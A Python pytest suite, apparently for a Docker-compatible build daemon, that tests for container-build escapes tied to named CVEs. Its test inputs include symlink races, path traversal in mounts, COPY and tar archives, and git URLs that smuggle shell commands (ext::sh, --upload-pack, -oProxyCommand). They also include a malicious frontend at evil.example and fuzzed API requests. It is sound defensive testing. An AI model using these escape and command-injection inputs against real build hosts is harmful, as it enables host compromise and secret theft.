"""What builds have let out of other builders: E1 (CVE-2024-23651), E2 (CVE-2024-23652), E4 (CVE-2024-23650), E5
(CVE-2026-33747), E6 (CVE-2019-13139, CVE-2022-39253), E7 (CVE-2024-24557), E8 (CVE-2024-1753, 2024-9407,
2024-9675, 2024-11218), E9, E11 (CVE-2023-26054). The canary is on the machine.
"""

# ruff: noqa: E501 (a Dockerfile is easier to read on one line)

import http.client
import os
import random
import socket
import subprocess
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import tars

from harness.attacks import Canary, rounds
from harness.clients import Client
from harness.daemon import Daemon
from harness.waiting import FACTOR


@pytest.fixture
def canary(tmp_path: Path) -> Canary:
    return Canary(tmp_path / "outside")


def _secret(canary: Canary) -> str:
    return (canary.path / "secret").read_text()


def test_two_stages_flip_the_source_of_a_cache(builder: Any, canary: Canary) -> None:
    """E1: `source=` of a cache is a directory in one moment, and a link out in the next."""
    flip = f"i=0; while [ $i -lt 300 ]; do rm -rf /c/sub; ln -s {canary.path} /c/sub; rm /c/sub; mkdir /c/sub; i=$((i+1)); done"
    look = "RUN --mount=type=cache,id=e1,source=sub,target=/m cat /m/secret; ls /m; true"
    dockerfile = (
        "FROM busybox AS flips\nRUN --mount=type=cache,id=e1,target=/c mkdir -p /c/sub\n"
        f"RUN --mount=type=cache,id=e1,target=/c {flip}; touch /done\n"
        "FROM busybox AS looks\n"
        + "".join(f"{look} # {number}\n" for number in rounds(8))
        + "RUN touch /done\n"
        "FROM busybox\nCOPY --from=flips /done /a\nCOPY --from=looks /done /b\n"
    )
    builder({"Dockerfile": dockerfile}, check=False)
    assert _secret(canary) not in builder.result.err
    assert canary.untouched()


def test_what_is_tidied_up_is_inside(builder: Any, canary: Canary) -> None:
    """E2: the directory above a mount point becomes a link while the step runs."""
    (canary.path / "deep/stub").mkdir(parents=True)
    canary.remember()
    for how in (f"rm -rf /a; ln -s {canary.path} /a", f"mv /a /b; ln -s {canary.path} /a"):
        mount = "RUN --mount=type=tmpfs,target=/a/deep/stub --mount=type=tmpfs,target=/z "
        dockerfile = f"FROM busybox\n{mount} umount /a/deep/stub; {how}; true\n"
        builder({"Dockerfile": dockerfile}, check=False)
    assert canary.untouched()


_MOUNTS = (
    *(
        "from=bad,source=/link,target=/m",
        "from=bad,source=/up,target=/m",
        "from=bad,source=/link/secret,target=/m/s",
    ),
    *("from=bad,source=../../../../OUT,target=/m", "source=../outside,target=/m", "source=clink,target=/m"),
    *("source=clink/secret,target=/m/s", "from=bad,source=/proc/self/root/OUT,target=/m"),
    *("type=cache,id=../../../OUT,target=/m", "type=cache,id=x,source=../../OUT,target=/m"),
    *("type=cache,id=x,from=bad,source=/link,target=/m", "type=cache,id=x,from=bad,source=/up,target=/m"),
    *(
        "type=bind,target=/m,source=/OUT",
        "type=bind,from=bad,target=/../../..OUT",
        "type=tmpfs,target=/link/made",
    ),
    *("type=secret,id=x,target=/link/made", "type=cache,target=/link/made", "target=/link/made"),
)


def test_mounts_lead_nowhere(builder: Any, canary: Canary) -> None:
    """E8, each resolved below its own root."""
    os.symlink(canary.path, builder.directory / "clink")
    secret = builder.directory / "s"
    secret.write_text("s")
    for mount in _MOUNTS:
        step = f"RUN --mount={mount.replace('OUT', str(canary.path))} cat /m/secret /m/s; true\n"
        base = f"FROM busybox AS bad\nRUN ln -s {canary.path} /link && ln -s ../../../../../..{canary.path} /up\n"
        builder({"Dockerfile": f"{base}FROM bad\n{step}"}, "--secret", f"id=x,src={secret}", check=False)
        assert _secret(canary) not in builder.result.err, mount
        assert canary.untouched(), mount


_COPIES = (
    *(
        "COPY --from=bad /link/secret /x",
        "COPY --from=bad /link /x",
        "COPY --from=bad /l*/secret /x/",
        "ADD up/secret /x",
    ),
    *(
        "COPY --from=bad --link /link/secret /x",
        "COPY --from=bad --parents /link/./secret /x/",
        "COPY clink/ /x/",
    ),
    *(
        "COPY --chmod=777 --chown=5 inner /link/",
        "COPY inner /link/made",
        "COPY --link inner /link/made",
        "ADD a.tar /link/",
    ),
    *(
        "COPY --exclude=../* clink/secret /x",
        "ADD --chmod=777 a.tar /up/",
        "COPY --from=bad /proc/self/root /x",
    ),
)


@pytest.mark.parametrize("copy", _COPIES)
def test_copies_lead_nowhere(builder: Any, sampan: Client, canary: Canary, copy: str) -> None:
    """E9, after BuildKit's testLocalSymlinkEscape, testCopyThroughSymlink*, …ArchiveThroughAbsoluteSymlink."""
    os.symlink(canary.path, builder.directory / "clink")
    os.symlink(f"../../../../../../..{canary.path}", builder.directory / "up")
    archive = tars.tarball(tars.file("secret", b"planted"), tars.file("made", b"planted", mode=0o4777))
    base = f"FROM busybox AS bad\nRUN ln -s {canary.path} /link && ln -s ../../../../../..{canary.path} /up\n"
    files = {"Dockerfile": f"{base}FROM bad\n{copy}\n", "inner": "planted", "a.tar": archive}
    image = builder(files, check=False)
    assert _secret(canary) not in builder.result.err
    if builder.result.code == 0:
        assert (
            _secret(canary) not in sampan("run", "--rm", image, "sh", "-c", "grep -r . /x", check=False).out
        )
    assert canary.untouched()


@pytest.mark.parametrize("name", ["../out", "/abs", "a/../../out", "link/out", "hard"])
def test_a_context_that_is_a_tar(builder: Any, failed: Callable[..., str], canary: Canary, name: str) -> None:
    out = f"../../../../../../..{canary.path}/secret"
    members = {
        "link/out": [tars.symlink("link", str(canary.path)), tars.file("link/planted")],
        "hard": [tars.hard_link("hard", out)],
    }.get(name, [tars.file(name)])
    context = tars.tarball(tars.file("Dockerfile", b"FROM busybox\nCOPY . /x\n"), *members)
    directory, builder.directory = builder.directory, "-"
    builder.again(check=False, stdin=context)
    builder.directory = directory
    assert canary.untouched()
    assert not (canary.path / "planted").exists()
    assert not os.path.exists("/abs")


def test_a_syntax_of_somebody_elses_is_not_run(builder: Any, failed: Callable[..., str]) -> None:
    """E5: nothing is pulled, nothing is run; the Dockerfile is read as what it is, or refused."""
    for syntax in ("evil.example/frontend:latest", "docker.io/evil/frontend", "busybox"):
        builder({"Dockerfile": f"# syntax={syntax}\nFROM busybox\nRUN echo read by sampan\n"}, check=False)
        assert (
            "evil.example" not in builder.result.err
            or builder.result.code == 0
            or "syntax" in builder.result.err
        )
    assert builder.sampan("images", "-q", "evil.example/frontend").out == ""


_REPOSITORIES = (
    *(
        "--upload-pack=touch MARK",
        "ext::sh -c 'touch MARK'",
        "git://-oProxyCommand=touch MARK/x.git",
        "file://MARK.git",
    ),
    *("ssh://-oProxyCommand=touch$IFS@MARK/x.git", "https://127.0.0.1:1/x.git#--upload-pack=touch MARK"),
    *(
        "https://127.0.0.1:1/x.git#-c:..",
        "https://127.0.0.1:1/x.git#main:../../..",
        "git@-oProxyCommand=x:y.git",
    ),
    *(
        "http://127.0.0.1:1/x.git#:/etc",
        "git::ext::sh -c touch MARK",
        "fd::17/x.git",
        "transport-helper::x.git",
    ),
)


@pytest.mark.parametrize("where", ["context", "ADD"])
def test_repositories_that_are_commands(builder: Any, tmp_path: Path, where: str) -> None:
    """E6: refused before git sees them, or by git, and nothing is run."""
    mark = tmp_path / "mark"
    for repository in _REPOSITORIES:
        url = repository.replace("MARK", str(mark))
        if where == "ADD":
            builder({"Dockerfile": f'FROM busybox\nADD ["{url}", "/x"]\n'}, check=False)
            done = builder.result
        else:
            done = builder.sampan("build", "--", url, check=False, timeout=120)
        assert done.code, url
        assert not mark.exists(), url


def test_a_repository_with_hooks_and_links(builder: Any, canary: Canary, tmp_path: Path) -> None:
    """E6: a subdirectory that is a link, a submodule that is a local one, a hook, an attribute's filter."""
    repository = tmp_path / "repository"
    repository.mkdir()
    git = ["git", "-c", "user.name=x", "-c", "user.email=x@x", "-C", str(repository)]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    (repository / "sub").symlink_to(canary.path)
    (repository / ".gitmodules").write_text(
        f'[submodule "m"]\n\tpath = m\n\turl = {canary.path}\n\tupdate = !touch {tmp_path}/mark\n'
    )
    (repository / ".gitattributes").write_text("* filter=evil\n")
    (repository / "Dockerfile").write_text("FROM busybox\nCOPY . /x\n")
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "x"], check=True)
    for fragment in ("", "#main:sub", "#main:sub/..", "#main:./../outside"):
        done = builder.sampan("build", "-q", f"{repository}/.git{fragment}", check=False, timeout=120)
        assert _secret(canary) not in done.out + done.err
        assert not (tmp_path / "mark").exists()
    assert canary.untouched()


def test_a_strangers_image_is_no_cache(builder: Any, sampan: Client) -> None:
    """E7: it has the very command in its history, and another content."""
    layer = tars.tarball(tars.file("planted"))
    changes = ["-c", "LABEL x=y", "-m", "RUN /bin/sh -c echo mine > /mine"]
    sampan("import", *changes, "-", "stranger", stdin=layer)
    try:
        for flags in ([], ["--cache-from", "stranger"]):
            image = builder(
                {"Dockerfile": "FROM busybox\nRUN echo mine > /mine\nHEALTHCHECK CMD true\n"}, *flags
            )
            assert builder.run(image, "sh", "-c", "cat /mine; ls /planted 2>/dev/null; true") == "mine\n"
        scratch = builder(
            {"Dockerfile": "FROM scratch\nCOPY --from=busybox /bin/busybox /busybox\nLABEL x=y\n"},
            "--cache-from",
            "stranger",
        )
        assert "CACHED" not in builder.result.err
        assert "planted" not in builder.run(scratch, "/busybox", "ls", "/")
    finally:
        sampan("rmi", "-f", "stranger")


def test_no_credential_of_a_url_stays(builder: Any, daemon: Daemon) -> None:
    """E11: neither in the image, nor in the cache, nor in what was said."""
    token = os.urandom(12).hex()
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    listener.close()
    for source in (f"http://user:{token}@127.0.0.1:{port}/x", f"https://{token}@127.0.0.1:{port}/x.git"):
        builder({"Dockerfile": f"FROM busybox\nRUN true\nADD {source} /x\n"}, check=False)
        assert builder.result.code == 1
        found = subprocess.run(
            ["grep", "-rl", token, str(daemon.data), str(daemon.log)], capture_output=True, check=False
        )
        assert found.returncode == 1, found


def _post(daemon: Daemon, query: str, body: bytes) -> int:
    with socket.socket(socket.AF_UNIX) as stream:
        stream.settimeout(60 * FACTOR)
        stream.connect(daemon.host.removeprefix("unix://"))
        head = f"POST /build?{query} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-tar\r\nConnection: close\r\n"
        with suppress(BrokenPipeError, ConnectionResetError):
            stream.sendall(head.encode() + f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
        answer = http.client.HTTPResponse(stream)
        answer.begin()
        answer.read()
        return answer.status


_KEYS = (
    *(
        "t",
        "dockerfile",
        "remote",
        "q",
        "nocache",
        "pull",
        "rm",
        "memory",
        "memswap",
        "cpushares",
        "cpusetcpus",
        "buildargs",
    ),
    *(
        "labels",
        "cachefrom",
        "networkmode",
        "target",
        "platform",
        "shmsize",
        "squash",
        "extrahosts",
        "outputs",
        "version",
    ),
)
_VALUES = (
    *(
        "",
        "1",
        "-1",
        "true",
        "{",
        "[]",
        "{}",
        "null",
        '{"a":1}',
        '["a"]',
        "../../etc/passwd",
        "a\0b",
        "x" * 5000,
        "9" * 40,
    ),
    *(
        "\udcff",
        "-",
        "/",
        "http://127.0.0.1:1/",
        '{"a":{"b":[]}}',
        "1e400",
        "NaN",
        "host",
        "container:x",
        "%",
    ),
)


def test_requests_that_make_no_sense(daemon: Daemon) -> None:
    """E4: never a 500 with the daemon's own fault, and it goes on."""
    chance = random.Random(20)
    context = tars.tarball(tars.file("Dockerfile", b"FROM scratch\nLABEL a=b\n"))
    for _ in rounds(60):
        pairs = [(chance.choice(_KEYS), chance.choice(_VALUES)) for _ in range(chance.randrange(1, 4))]
        query = "&".join(f"{key}={quote(value, errors='surrogateescape')}" for key, value in pairs)
        body = bytearray(context)
        for _ in range(chance.randrange(4)):
            body[chance.randrange(len(body))] = chance.randrange(256)
        status = _post(daemon, query, bytes(body[: chance.choice((len(body), 512, 100, 0, len(body)))]))
        assert status < 500 or status == 501, query
    assert daemon.get("/info")["Containers"] == 0


@pytest.fixture(autouse=True)
def _clean(sampan: Client) -> Iterator[None]:
    yield
    sampan("builder", "prune", "-af")
    sampan("image", "prune", "-af", "--filter", "label=a=b", check=False)
